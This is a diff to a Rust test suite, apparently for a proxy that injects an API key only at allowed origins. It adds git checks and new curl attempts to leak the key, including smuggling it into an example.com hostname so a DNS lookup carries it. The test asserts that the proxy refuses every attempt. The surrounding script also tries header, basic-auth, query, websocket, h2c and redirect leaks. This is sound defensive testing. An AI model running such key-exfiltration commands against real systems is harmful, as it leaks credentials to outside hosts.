@@ -89,7 +89,10 @@ fn curl_and_python_use_the_real_key_at_the_allowed_origin_only() {
         "env > {env}; \
          echo curl-a $(curl -sS -o /dev/null -w '%{{http_code}}' -H \"X-API-Key: $WEB_API_KEY\" {a}/header); \
          echo curl-b $(curl -sS -o /dev/null -w '%{{http_code}}' -H \"X-API-Key: $WEB_API_KEY\" {b}/landing); \
-         python3 {py} {a} {b}",
+         python3 {py} {a} {b}; \
+         export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null GIT_TERMINAL_PROMPT=0; \
+         echo git-a $(git -c \"http.extraHeader=X-API-Key: $WEB_API_KEY\" ls-remote {a}/repo.git 2>&1); \
+         echo git-b $(git -c \"http.extraHeader=X-API-Key: $WEB_API_KEY\" ls-remote {b}/repo.git 2>&1)",
         env = env_file.display(),
         a = web.a,
         b = web.b,
@@ -106,6 +109,16 @@ fn curl_and_python_use_the_real_key_at_the_allowed_origin_only() {
     // Origin B is not allowed: refused by the proxy, nothing arrived.
     assert!(out.contains("curl-b 403"), "{out}\n{err}");
     assert!(out.contains("py-b requests 403") || out.contains("py-b urllib 403"), "{out}");
+    // git over https: trusts the per-run CA (GIT_SSL_CAINFO), reaches A
+    // (which has no repository: 404), is refused at B.
+    assert!(
+        out.lines().any(|l| l.starts_with("git-a ") && l.contains("not found")),
+        "{out}\n{err}"
+    );
+    assert!(
+        out.lines().any(|l| l.starts_with("git-b ") && l.contains("403")),
+        "{out}\n{err}"
+    );
     let b_log = std::fs::read_to_string(&web.b_log).unwrap_or_default();
     assert!(!b_log.contains("REQ"), "origin B got a request:\n{b_log}");
     // Reported once (two requests, one origin), and audited.
@@ -213,7 +226,7 @@ fn attacks_are_refused_before_anything_leaves() {
     let a = &e.a;
     // Each line prints its name and the proxy's answer.
     let script = format!(
-        "c() {{ n=$1; shift; echo \"$n $(curl -sS -o /dev/null -w '%{{http_code}}' \"$@\")\"; }}; \
+        "c() {{ n=$1; shift; echo \"$n $(curl -sS -m 10 -o /dev/null -w '%{{http_code}}' \"$@\")\"; }}; \
          c header -H \"X-API-Key: $KEY_API_KEY\" {other}/; \
          c basic -u \"x:$KEY_API_KEY\" {other}/; \
          c query \"{other}/?k=$(printf %s \"$KEY_API_KEY\" | sed 's/-/%2D/g')\"; \
@@ -225,7 +238,9 @@ fn attacks_are_refused_before_anything_leaves() {
          c websocket -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H \"X-API-Key: $KEY_API_KEY\" {a}/key; \
          c h2c --http2 -H \"X-API-Key: $KEY_API_KEY\" {other}/; \
          c redirect -L --location-trusted -H \"X-API-Key: $KEY_API_KEY\" {a}/away; \
-         c crossconfig -H \"X-API-Key: $FAR_API_KEY\" {a}/key"
+         c crossconfig -H \"X-API-Key: $FAR_API_KEY\" {a}/key; \
+         echo dns $(curl -sS -o /dev/null -w '%{{http_connect}}' https://$KEY_API_KEY.example.com/ 2>/dev/null); \
+         c plainhost http://$KEY_API_KEY.example.com/"
     );
     let before = e.a_requests();
     let (code, out, err) = run(&t, &[], &["key", "far"], &script);
@@ -245,6 +260,9 @@ fn attacks_are_refused_before_anything_leaves() {
         ("redirect", "403"),
         // The placeholder of a config allowed elsewhere, sent to A.
         ("crossconfig", "403"),
+        // A placeholder in a host name (a DNS query would carry it).
+        ("dns", "403"),
+        ("plainhost", "403"),
     ] {
         assert!(
             out.lines().any(|l| l == format!("{name} {want}")),
